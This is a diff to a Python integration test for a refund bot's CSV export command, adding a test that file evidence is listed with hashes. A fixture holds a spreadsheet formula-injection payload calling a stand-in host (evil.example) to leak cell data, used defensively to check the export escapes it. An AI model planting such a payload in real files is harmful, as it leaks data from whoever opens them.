@@ -1,4 +1,5 @@
-"""`refundbot export cases|ledger`: what a finance or trust team gets, run as the real command on both databases."""
+"""`refundbot export cases|ledger|files`: what a finance or trust team gets, run as the real command on both
+databases."""
 
 import csv
 import io
@@ -8,7 +9,10 @@ from datetime import timedelta
 from sqlalchemy import select
 
 from bot.domain.contract import ContractKind
+from bot.domain.files import EvidenceFile
 from bot.domain.money import Money
+from bot.domain.policy import Policy
+from bot.domain.vocabulary import Visibility
 from bot.services.core import store
 from bot.services.payments import LedgerOnly
 from storage.tables import LedgerRow, PayoutAnswerRow
@@ -16,7 +20,7 @@ from tests.conftest import REFUNDBOT
 from tests.integration.conftest import NOW
 from tests.integration.test_cli import run
 from tests.integration.test_ports import request_on
-from tests.unit.factories import FREELANCER, contract, milestone
+from tests.unit.factories import CLIENT, FREELANCER, contract, milestone
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"оплата")'  # a milestone id the marketplace sent
 CYRILLIC = "Этапы оплаты " * 15  # 195 characters: a title is at most 200
@@ -124,3 +128,27 @@ def test_bad_dates_and_workspaces_are_named_and_nothing_is_written(tmp_path):
     assert missing.returncode == 2
     assert "Traceback" not in missing.stderr
     assert not (tmp_path / "refundbot.db").exists()  # an export never creates a database
+
+
+def test_files_export_lists_each_file_added_as_evidence_with_its_sha256(database_url, tmp_path, uow, sessions):
+    seeded(uow, sessions)
+    brief = EvidenceFile("F0BRIEF", HOSTILE + ".pdf", "application/pdf", 18, "a" * 64, CLIENT)
+    shot = EvidenceFile("F0SHOT", CYRILLIC.strip() + ".png", "image/png", 2048, "b" * 64, CLIENT)
+    with uow() as work:
+        case = work.cases.get("T0001", "R-2")
+        for visibility, files in ((Visibility.BOTH_SIDES, (brief, shot)), (Visibility.MEDIATOR_ONLY, ())):
+            case.add_evidence(
+                text="words", links=(), visibility=visibility, by=CLIENT, now=NOW, policy=Policy(), files=files
+            )
+        store(work, case, LedgerOnly())
+        work.commit()
+    result = export(database_url, tmp_path, "files", "--since", "2026-11-01")
+    assert result.returncode == 0, result.stderr
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [(r["case_id"], r["evidence_seq"], r["file_id"], r["sha256"], r["visibility"]) for r in rows] == [
+        ("R-2", "1", "F0BRIEF", "a" * 64, "both_sides"),
+        ("R-2", "1", "F0SHOT", "b" * 64, "both_sides"),
+    ]
+    assert rows[0]["name"] == "'" + HOSTILE + ".pdf"  # a spreadsheet keeps it text
+    assert rows[1]["name"] == CYRILLIC.strip() + ".png"
+    assert "exported 2 file(s) added as evidence" in result.stderr
